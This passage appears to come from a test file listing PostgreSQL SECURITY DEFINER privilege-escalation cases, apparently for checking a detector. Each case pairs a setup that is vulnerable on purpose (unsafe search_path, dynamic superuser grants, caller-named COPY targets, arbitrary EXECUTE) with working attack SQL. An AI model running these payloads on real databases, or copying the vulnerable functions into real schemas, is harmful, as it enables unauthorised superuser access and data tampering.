            alter function app.note(text) owner to {owner}`,
    attack: `create function pg_temp.evil() returns trigger language plpgsql as 'begin create table app.pwned(); return new; end';
             create temp table audit_log (id int, note text); create trigger t before insert on audit_log for each row execute function pg_temp.evil();
             grant all on audit_log to public; select app.note('x')`,
  },
  {
    name: "a catalog by its bare name, in an empty path",
    setup: `grant temporary on database {db} to {app};
            create function app.names() returns int language plpgsql security definer set search_path = '' as 'begin return (select max(id) from pg_tables); end';
            alter function app.names() owner to {owner}`,
    attack: `${exploit} create temp view pg_tables as select pg_temp.evil() as id; grant select on pg_tables to public; select app.names()`,
  },
  {
    name: "attributes that are set by name",
    setup: `create function app.set_password(r text, p text) returns void language plpgsql security definer set search_path = pg_catalog, pg_temp as
            $f$ begin execute format('alter role %I password %L superuser', r, p); end $f$`,
    attack: "select app.set_password('{app}', 'x')",
    proof: superuserProof,
  },
  {
    name: "a file that the caller names",
    setup: `create function app.export(f text) returns void language plpgsql security definer set search_path = app, pg_temp as
            $f$ begin execute format('copy (select ''pwned'') to %L', f); end $f$`,
    attack: "select app.export('{file}')",
    proof: "select pg_read_file('{file}') like 'pwned%'",
  },
  {
    name: "a definer owned by a role that may only create",
    setup: `create role {group}; grant create, usage on schema app to {group}; create function app.run(q text) returns void language plpgsql security definer as 'begin execute q; end';
            alter function app.run(text) owner to {group}`,
    attack: "select app.run('create table app.pwned()')",
  },
]
